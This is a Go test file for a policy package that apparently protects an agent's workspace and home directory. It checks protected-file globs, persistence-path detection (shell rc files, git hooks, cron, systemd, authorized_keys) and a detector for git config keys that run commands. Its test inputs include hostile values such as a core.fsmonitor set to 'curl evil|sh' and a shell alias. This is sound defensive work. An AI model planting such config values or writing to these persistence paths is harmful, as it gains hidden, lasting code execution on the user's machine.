package policy

import (
	"slices"
	"testing"
)

func TestProtectGlobsBuiltin(t *testing.T) {
	ws, home := "/w/repo", "/srv/agent-home"
	cases := []struct {
		name, doc string
		path      string
		protected bool
	}{
		{"enforce default protects bashrc", "version: 1\nmode: enforce\nfiles:\n  protect: [.gitlab-ci.yml]\n", home + "/.zshrc", true},
		{"enforce default protects hooks", "version: 1\nmode: enforce\nfiles:\n  protect: []\n", ws + "/.git/hooks/pre-commit", true},
		{"enforce default protects systemd units", "version: 1\nmode: enforce\n", home + "/.config/systemd/user/x.service", true},
		{"enforce default protects git config dir", "version: 1\nmode: enforce\n", home + "/.config/git/config", true},
		{"enforce keeps files.protect", "version: 1\nmode: enforce\nfiles:\n  protect: [.gitlab-ci.yml]\n", ws + "/.gitlab-ci.yml", true},
		{"opt out", "version: 1\nmode: enforce\nfiles:\n  protect: []\n  builtin_protect: false\n", home + "/.zshrc", false},
		{"observe mode does not add the list", "version: 1\nmode: observe\nfiles:\n  protect: []\n", home + "/.zshrc", false},
		{"unrelated path", "version: 1\nmode: enforce\n", home + "/notes.txt", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p, err := Parse("t.yaml", []byte(c.doc))
			if err != nil {
				t.Fatal(err)
			}
			if got := p.IsProtected(c.path, ws, home); got != c.protected {
				t.Errorf("IsProtected(%s) = %v, want %v", c.path, got, c.protected)
			}
		})
	}
	p, err := Parse("t.yaml", []byte("version: 1\nmode: enforce\n"))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, g := range p.ProtectGlobs() {
		got = append(got, g.String())
	}
	// Explicit list first, then the built-in one, ".git/hooks/**" and
	// "~/.bashrc" (in both) once.
	want := append(slices.Clone(DefaultProtect), "~/.bash_profile")
	if !slices.Equal(got[:len(want)], want) {
		t.Errorf("ProtectGlobs = %v", got)
	}
	if n := len(got); n != len(DefaultProtect)+len(BuiltinProtect)-3 { // .git/hooks/**, ~/.bashrc, ~/.profile in both
		t.Errorf("ProtectGlobs has %d entries: %v", n, got)
	}
	if len(p.Protect) != len(DefaultProtect) {
		t.Errorf("Protect changed: %v", p.Protect)
	}
	// The key changes the version and survives Marshal.
	off, err := Parse("t.yaml", []byte("version: 1\nmode: enforce\nfiles:\n  builtin_protect: false\n"))
	if err != nil {
		t.Fatal(err)
	}
	if off.Version == p.Version {
		t.Error("builtin_protect: false has the same version")
	}
	back, err := Parse("m.yaml", off.Marshal())
	if err != nil || back.BuiltinProtect || back.Version != off.Version {
		t.Errorf("Marshal round trip: %v %v", err, back)
	}
	if _, err := Parse("t.yaml", []byte("version: 1\nfiles:\n  builtin_protect: maybe\n")); err == nil {
		t.Error("a non-boolean builtin_protect was accepted")
	}
}

func TestPersistence(t *testing.T) {
	ws, home := "/w/repo", "/srv/agent-home"
	cases := []struct {
		path, home string
		want       string // pattern, "" for none
	}{
		{ws + "/.git/hooks/post-checkout", home, ".git/hooks/**"},
		{home + "/.bashrc", home, "~/.bashrc"},
		{home + "/.config/fish/conf.d/x.fish", home, "~/.config/fish/conf.d/**"},
		{home + "/.config/autostart/a/b.desktop", home, "~/.config/autostart/**"},
		{"/var/spool/cron/crontabs/dev", home, "/var/spool/cron/**"},
		{"/etc/crontab", home, "/etc/cron*/**"},
		{"/etc/cron.d/job", home, "/etc/cron*/**"},
		{home + "/.local/share/systemd/user/a.service", home, "~/.local/share/systemd/user/**"},
		{home + "/.ssh/authorized_keys", home, "~/.ssh/authorized_keys"},
		{home + "/.gitconfig", home, "~/.gitconfig"},
		{home + "/.config/git/attributes", home, "~/.config/git/attributes"},
		{home + "/.bashrc", "", ""}, // no home: ~/ matches nothing
		{"/home/dev/.bashrc", home, ""},
		{ws + "/src/hooks/x", home, ""},
		{"/etc/passwd", home, ""},
	}
	for _, c := range cases {
		pat, what, ok := Persistence(c.path, ws, c.home)
		if pat != c.want || ok != (c.want != "") || ok && what == "" {
			t.Errorf("Persistence(%s, home %q) = %q %q %v, want %q", c.path, c.home, pat, what, ok, c.want)
		}
	}
}

func TestGitConfigExecutes(t *testing.T) {
	for _, tc := range []struct {
		key, value string
		want       bool
	}{
		{"core.fsmonitor", "curl evil|sh", true},
		{"core.hooksPath", "/tmp/h", true},
		{"core.sshCommand", "ssh -oProxyCommand=x", true},
		{"alias.st", "!sh -c evil", true},
		{"alias.st", "status -sb", false},
		{"filter.lfs.clean", "git-lfs clean -- %f", true},
		{"filter.a.b.smudge", "x", true},
		{"diff.pdf.textconv", "pdftotext", true},
		{"merge.ours.driver", "true", true},
		{"includeIf.gitdir:~/w/.path", "/tmp/x", true},
		{"include.path", "../x", true},
		{"pager.log", "less", true},
		{"remote.origin.uploadpack", "evil", true},
		{"user.name", "a", false},
		{"remote.origin.url", "https://x", false},
		{"core.autocrlf", "true", false},
		{"filter.x.required", "true", false},
		{"pager.", "x", false},
	} {
		if got := GitConfigExecutes(tc.key, tc.value); got != tc.want {
			t.Errorf("GitConfigExecutes(%q, %q) = %v, want %v", tc.key, tc.value, got, tc.want)
		}
	}
}
